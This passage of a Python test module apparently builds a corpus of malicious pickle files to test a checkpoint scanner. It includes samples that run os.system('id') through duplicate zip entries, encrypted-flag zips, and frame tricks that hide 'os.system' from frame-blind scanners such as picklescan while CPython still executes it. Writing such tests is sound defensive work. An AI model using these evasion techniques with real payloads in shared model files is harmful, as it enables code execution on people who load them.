        ("ck_platform.pkl", _stack_global("platform", "architecture"), "platform runs `file` (fickling)"),
        ("ck_pexpect.pkl", _stack_global("pexpect", "spawn"), "pexpect (fickling)"),
    ]


def _duplicate_zip() -> bytes:
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("archive/data.pkl", call("posix", "system", "id", protocol=2))
        archive.writestr("archive/data.pkl", pickle.dumps({"step": 1}, protocol=2))
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def _encrypted_zip() -> bytes:
    data = bytearray(_zip({"archive/data.pkl": call("os", "system", "id")}))
    # Set the "encrypted" flag bit in the local header and the central directory.
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        data[at + flag_at] |= 1
    return bytes(data)


def straddle_pickle() -> bytes:
    """A protocol-4 pickle whose frame ends in the middle of a GLOBAL opcode's module line.

    * A frame-blind reader (pickletools, picklescan, ckptconv before it checked
      frames) reads the line across the frame's end: ``chaos.system``, an
      unknown class; nothing dangerous is named.
    * CPython's C unpickler reading from a file object (``torch.load`` reads
      ``data.pkl`` from a ``BytesIO``) does not find the newline inside the
      frame, drops the rest of the frame and reads the line from the bytes
      after it: ``os.system``, which it calls.
    """
    frame_body = b"ccha"
    after = b"os\nsystem\n(Vid\ntR."
    return pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(frame_body)) + frame_body + after


def straddle_binary_pickle() -> bytes:
    """A frame that ends inside a SHORT_BINBYTES argument.

    CPython's C unpickler reads the argument across the frame's end; its pure
    Python unpickler (``pickle._Unpickler``) refuses the file: CPython's two
    readers disagree, so ckptconv refuses it too.
    """
    frame_body = b"\x8c\x08builtins\x8c\x03len\x93" + b"C\x08" + b"gh"
    after = b"abcdef" + b"\x85R."
    return pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(frame_body)) + frame_body + after


def nested_frame_pickle() -> bytes:
    """A FRAME opcode inside a frame that has not ended (CPython's Python unpickler refuses it)."""
    inner = call("os", "system", "id", protocol=4)[2:]  # FRAME + body of a real pickle
    outer_body = b"\x8c\x01a0" + inner  # SHORT_BINUNICODE 'a', POP, then the inner frame
    return pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(outer_body)) + outer_body


def build_corpus(folder: str | os.PathLike[str], *, include: Sequence[str] = ()) -> list[tuple[Sample, str]]:
    """Write every sample under ``folder``; ``(sample, path)`` pairs, in a stable order."""
    os.makedirs(folder, exist_ok=True)
    written = []
    for sample in _samples():
        if include and sample.name not in include:
            continue
        path = os.path.join(os.fspath(folder), sample.name)
        with open(path, "wb") as file:
            file.write(sample.make())
        written.append((sample, path))
    return written
